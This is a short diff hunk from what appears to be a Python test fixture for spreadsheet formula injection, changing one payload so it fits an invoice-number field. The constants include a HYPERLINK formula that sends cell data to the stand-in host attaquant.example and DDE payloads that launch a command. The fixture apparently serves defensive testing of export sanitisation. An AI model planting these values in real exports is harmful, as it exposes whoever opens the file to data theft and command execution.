@@ -36,7 +36,7 @@ ROOT = Path(__file__).resolve().parent.parent.parent
 LINK = '=HYPERLINK("http://attaquant.example/?d="&A1;"Cliquez ici")'
 CMD = "+cmd|' /C calc'!A0"
 AT = "@SUM(1+1)*cmd|' /C calc'!A0"
-MINUS = "-1+1+cmd|' /C calc'!A0"
+MINUS = "-1+cmd|'/C calc'!A0"  # 19 characters: fits an invoice number (PostgreSQL enforces it)
 TAB = "\t=1+1"
 CR = "\r=2+2"
 SPACE = "  =3+3"
